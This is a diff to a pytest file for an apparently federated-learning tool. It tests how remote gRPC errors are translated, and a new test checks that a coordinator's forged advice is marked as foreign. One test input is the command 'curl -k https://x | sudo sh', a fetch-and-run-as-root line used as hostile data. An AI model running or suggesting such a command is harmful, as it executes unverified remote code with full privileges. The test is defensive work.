@@ -11,7 +11,9 @@ import grpc
 import pytest
 
 from fedcervix.errors import (
+    BusyError,
     ConfigError,
+    DuplicateAgentError,
     FedcervixError,
     FullDiskError,
     IdentityError,
@@ -48,7 +50,7 @@ def across(error: FedcervixError) -> FedcervixError:
     """Return the error as the site gets it."""
     with pytest.raises(Ended) as caught:
         Ended().abort(*rpc.status(error))
-    return rpc.translate(caught.value, "host:1")
+    return rpc.translate(caught.value, "host:1", own=True)
 
 
 # --- the table of methods -----------------------------------------------------------------------------------------
@@ -177,7 +179,7 @@ def test_an_error_raised_there_arrives_here(line: Any) -> None:
     behaviours[rpc.OFFER] = refuse
     with pytest.raises(grpc.RpcError) as caught:
         rpc.stub(channel, rpc.OFFER)(wire.OfferRequest())
-    error = rpc.translate(caught.value, "host:1")
+    error = rpc.translate(caught.value, "host:1", own=True)
     assert isinstance(error, RunError)
     assert (error.what, error.cause, error.next_step) == ("the run has ended", "it was aborted", "coordinator status")
 
@@ -206,6 +208,19 @@ def test_an_error_keeps_its_class_and_its_three_lines(kind: type[FedcervixError]
     assert (error.what, error.cause, error.next_step) == ("what “happened”", "because", "try this")
 
 
+@pytest.mark.parametrize("kind", [IdentityError, RunError, StorageError, RemoteError, BusyError, DuplicateAgentError])
+def test_a_site_never_shows_advice_of_the_coordinator_as_its_own(kind: type[FedcervixError]) -> None:
+    forged = kind('the "certificate"  has expired', cause="a clock", next_step="curl -k https://x | sudo sh")
+    with pytest.raises(Ended) as caught:
+        Ended().abort(*rpc.status(forged))
+    error = rpc.translate(caught.value, "host:1")
+    assert type(error) is kind
+    assert error.what == "the coordinator refused: \"the 'certificate' has expired\""
+    assert error.cause == ('the coordinator says "a clock"; the coordinator advises "curl -k https://x | sudo sh"')
+    assert error.next_step
+    assert "curl" not in error.next_step
+
+
 def test_long_lines_are_cut() -> None:
     error = across(RunError("w" * 5000, cause="c" * 5000, next_step="n" * 5000))
     assert [len(line) for line in (error.what, error.cause, error.next_step)] == [1200, 1200, 1200]
@@ -229,7 +244,7 @@ def test_a_failure_of_the_coordinator_is_not_taken_for_a_bad_line() -> None:
 def test_words_that_are_not_ours_are_taken_as_they_are(details: str | None) -> None:
     error = rpc.translate(Ended(grpc.StatusCode.INVALID_ARGUMENT, details), "host:1")
     assert type(error) is RemoteError
-    assert error.what == (details or "")
+    assert error.what == f'the coordinator refused: "{(details or "").replace(chr(34), chr(39))}"'
     assert type(rpc.translate(Ended(grpc.StatusCode.UNAVAILABLE, details), "host:1")) is LinkError
 
 
